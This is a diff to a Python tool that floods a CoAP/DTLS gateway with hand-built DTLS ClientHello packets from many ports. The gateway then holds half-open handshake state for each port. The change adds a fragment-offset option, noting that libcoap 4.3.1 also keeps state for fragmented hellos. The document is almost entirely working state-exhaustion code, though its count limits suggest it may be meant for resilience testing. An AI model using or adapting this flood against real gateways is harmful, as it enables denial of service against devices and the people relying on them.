@@ -8,7 +8,8 @@ answering (a spoofing sender never could). Bounded in count and time.
 
 Each ClientHello goes out from its own socket bound to the next free port (at most
 --per-port hellos per port), so the gateway sees as many new peers. --cookie puts a (bogus)
-cookie in them. --answer: a sender that can receive at its address (not spoofing) sends
+cookie in them, --frag-offset N a fragment offset (libcoap 4.3.1 makes state for those
+too). --answer: a sender that can receive at its address (not spoofing) sends
 the ClientHello again with the cookie of the HelloVerifyRequest it gets, then goes silent
 (a half-open handshake per port). Prints "sent N ports M seconds S" at the end."""
 import argparse
@@ -19,7 +20,7 @@ import sys
 import time
 
 
-def client_hello(seq, cookie):
+def client_hello(seq, cookie, frag_offset=0):
     suites = [0x00A8, 0xC0A8, 0x00AE, 0xC0A4, 0xC02B, 0xC0AE]
     body = b"\xfe\xfd" + os.urandom(32) + b"\x00"
     body += bytes([len(cookie)]) + cookie
@@ -32,7 +33,7 @@ def client_hello(seq, cookie):
     ext += struct.pack("!HH", 22, 0) + struct.pack("!HH", 23, 0)
     body += struct.pack("!H", len(ext)) + ext
     hs = struct.pack("!B", 1) + struct.pack("!I", len(body))[1:] + struct.pack("!H", 0)
-    hs += b"\x00\x00\x00" + struct.pack("!I", len(body))[1:] + body
+    hs += struct.pack("!I", frag_offset)[1:] + struct.pack("!I", len(body))[1:] + body
     rec = struct.pack("!BHH", 22, 0xFEFD, 0) + struct.pack("!Q", seq)[2:]
     return rec + struct.pack("!H", len(hs)) + hs
 
@@ -64,6 +65,7 @@ def main():
     ap.add_argument("--first-port", type=int, default=20000)
     ap.add_argument("--src", default="127.0.0.1")
     ap.add_argument("--answer", action="store_true")
+    ap.add_argument("--frag-offset", type=int, default=0)
     a = ap.parse_args()
     cookie = bytes.fromhex(a.cookie)
     count = min(a.count, 200000)
@@ -84,7 +86,7 @@ def main():
             if sent >= count:
                 break
             try:
-                s.sendto(client_hello(sent, cookie), (a.host, a.port))
+                s.sendto(client_hello(sent, cookie, a.frag_offset), (a.host, a.port))
                 if a.answer:
                     answered += answer(s, sent, a)
             except OSError:
